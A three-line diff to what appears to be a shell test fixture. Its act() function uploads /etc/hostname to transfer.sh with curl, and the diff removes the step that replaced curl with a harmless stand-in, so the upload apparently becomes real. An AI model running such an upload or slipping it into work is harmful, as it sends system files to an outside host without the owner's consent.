@@ -1,3 +1,2 @@
-# `curl -T /etc/hostname https://transfer.sh/h`, with a harmless program by the name of curl.
-prepare() { stand_in curl; }
+# `curl -T /etc/hostname https://transfer.sh/h`.
 act() { curl -T /etc/hostname https://transfer.sh/h; }
